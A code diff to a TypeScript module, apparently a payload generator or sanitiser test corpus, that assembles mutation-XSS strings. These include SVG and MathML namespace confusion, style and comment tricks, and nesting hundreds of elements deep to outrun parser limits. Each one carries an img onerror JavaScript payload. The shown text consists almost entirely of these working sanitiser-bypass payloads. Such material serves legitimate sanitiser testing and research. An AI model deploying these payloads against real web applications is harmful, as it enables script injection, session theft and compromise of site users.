@@ -83,12 +83,17 @@ const known = (js: string, bite: string, hidden: string): string[] => [
   `<svg><template>${bite}</template></svg><math><template>${bite}</template></math>`,
   `<svg><annotation-xml><foreignobject><style><!--</style><p id="--${hidden}">x</p></style></foreignobject></annotation-xml></svg>`,
   `<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-><img src=x: onerror=${js}>">`,
-  `<math><annotation-xml encoding="text/html"><style></annotation-xml>${bite}</style></annotation-xml></math>`,
-  ...[255, 505, 510, 515].flatMap((depth) => [
+  `<math><annotation-xml encoding="text/html"><style></annotation-xml>${bite}</style></annotation-xml></math>`
+]
+
+/** Deeper than a parser goes, which then puts things side by side that stood inside each other. */
+export function flattened(js: string): string[] {
+  const bite = `<img src=x: onerror=${js}>`
+  return [255, 505, 510, 515].flatMap((depth) => [
     `${'<div>'.repeat(depth)}<svg><style><a title="</style>${bite}"></a></style></svg>${'</div>'.repeat(depth)}`,
     `${'<b>'.repeat(depth)}<table><math><mtext><table><mglyph><style><!--</style>${bite}${'</b>'.repeat(depth)}`
   ])
-]
+}
 
 /** What would stand in for parts of the document, of the page around it, or of a sanitiser at work. */
 export function clobberings(js: string): string[] {
